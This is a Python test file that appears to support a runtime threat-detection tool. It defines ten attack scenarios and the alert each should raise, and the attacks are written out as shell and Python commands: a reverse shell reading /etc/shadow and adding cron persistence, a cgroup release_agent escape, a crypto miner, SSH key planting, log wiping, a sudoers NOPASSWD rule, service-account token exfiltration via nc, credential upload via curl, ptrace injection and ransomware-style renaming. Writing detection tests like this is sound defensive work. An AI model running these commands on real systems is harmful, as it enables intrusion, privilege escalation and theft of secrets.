"""Ten attacks, each done step by step by harmless programs, and the alerts that they raise at the default level.

On the host, the changed places are folders of the test in a private mount namespace.
"""

from typing import Final, NamedTuple

from tests.support.triggers import Contained, Trigger
from tests.support.triggers.own import CHILD, elsewhere, in_root


class Scenario(NamedTuple):
    """An attack."""

    name: str
    act: Trigger | Contained
    """Trigger of the alert that a responder reads first."""
    others: tuple[str, ...] = ()
    """Other rules that the attack raises."""
    subject: tuple[str, ...] = ("fd.name",)
    """Fields that identify the subject of the first alert."""


def _on_host(rule: str, script: str) -> Trigger:
    return Trigger(rule, "", script)


def _shell(rule: str, act: str) -> Trigger:
    return Trigger(rule, "", elsewhere(act))


_REVERSE: Final = """
import os, socket, sys
server = socket.create_server(("127.0.0.1", 0))
typed = b"cat /etc/shadow $TMP/none; echo '* * * * * root $TMP/x' > /etc/cron.d/x; exit\\n"
if not os.fork():
    end, _ = server.accept(); end.sendall(typed)
    while end.recv(100): pass
    os._exit(0)
end = socket.create_connection(server.getsockname())
for n in 0, 1, 2: os.dup2(end.fileno(), n)
os.execv("$BIN/dash", ["dash"])
"""
"""Script of a compromised web service: its own connection becomes a shell, to which two commands are typed."""
_INJECTED: Final = CHILD + (
    "if libc.ptrace(16, pid, 0, 0) == 0: os.waitpid(pid, 0)\n"
    "libc.ptrace(5, pid, ctypes.c_void_p(id(pid)), 0)\nos.kill(pid, signal.SIGKILL)"
)

SCENARIOS: Final = (
    Scenario(
        "A web shell becomes a reverse shell, reads credentials and comes back by cron",
        Trigger(
            "Shell with a network connection as its terminal",
            "",
            elsewhere(
                f"echo root:x > /etc/shadow; mkdir /etc/cron.d; cat > $TMP/reverse.py <<'END'\n{_REVERSE}\nEND\n"
                '$BIN/nginx spawn $BIN/dash -c "$PYTHON $TMP/reverse.py; true"'
            ),
        ),
        (
            "Shell started by a network server",
            "Network connection made a program's standard input or output",
            "Password database read by an unexpected program",
            "Scheduled job changed",
        ),
        ("proc.stdin.name", "proc.stdout.name"),
    ),
    Scenario(
        "A container escapes by release_agent",
        Contained(
            "Kernel helper program set from a container",
            "",
            "/bin/mkdir -p /tmp/cg; /bin/mount -t tmpfs x /tmp/cg; echo /tmp/cg/run > /tmp/cg/release_agent",
            box="admin",
        ),
        ("File system mounted in a container",),
    ),
    Scenario(
        "A miner is dropped and run",
        Contained(
            "Cryptocurrency miner run",
            "",
            "/bin/cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://203.0.113.9:3333 -u w",
        ),
        subject=("proc.exepath",),
    ),
    Scenario(
        "An SSH key is planted",
        Trigger(
            "SSH login key added",
            "",
            (
                "$PYTHON",
                "-c",
                in_root("os.makedirs('/root/.ssh', exist_ok=True)\nopen('/root/.ssh/authorized_keys', 'a')"),
            ),
        ),
    ),
    Scenario(
        "Logs and a history are cleared",
        _shell(
            "Log removed or emptied",
            "echo x > /var/log/auth.log; : > /var/log/auth.log; touch /var/log/wtmp; rm /var/log/wtmp; "
            "echo x > $TMP/.bash_history; rm $TMP/.bash_history",
        ),
        ("Command history removed",),
    ),
    Scenario(
        "A user is let become root by sudo",
        _shell("sudo rules changed", "mkdir -p /etc/sudoers.d; echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x"),
    ),
    Scenario(
        "A pod's token is stolen and used",
        Contained(
            "Service account token read by an unexpected program",
            "",
            "d=/run/secrets/kubernetes.io/serviceaccount; /bin/mkdir -p $d; echo secret > $d/token; "
            "/bin/nc -l -p 6443 > /dev/null & "
            "until /bin/cat $d/token | /bin/nc -w 1 127.0.0.1 6443; do /bin/sleep 0.1; done",
            box="pod",
        ),
        ("Kubernetes API requested from a container by a tool",),
    ),
    Scenario(
        "Files are packed and sent out by curl",
        _on_host(
            "File uploaded by a transfer tool",
            "mkdir -p $TMP/.aws; echo > $TMP/.aws/credentials; cd $TMP; cp .aws/credentials loot; "
            "curl -s -m 1 -T loot http://127.0.0.1:9/",
        ),
        ("Secret of a user or service read by an unexpected program",),
        ("proc.cmdline", "proc.cwd"),
    ),
    Scenario(
        "Code is put into another process by ptrace",
        Trigger("Process traced by an unexpected program", "", ("$PYTHON", "-c", _INJECTED, "$TMP")),
        subject=("evt.arg.request", "evt.arg.pid"),
    ),
    Scenario(
        "Files are made unreadable for ransom",
        _on_host(
            "Files renamed as ransomware does",
            "mkdir -p $TMP/docs; cd $TMP/docs; for n in 1 2 3 4 5; do echo > $$n; mv $$n $$n.locked; done",
        ),
        subject=("fs.path.source", "fs.path.target"),
    ),
)
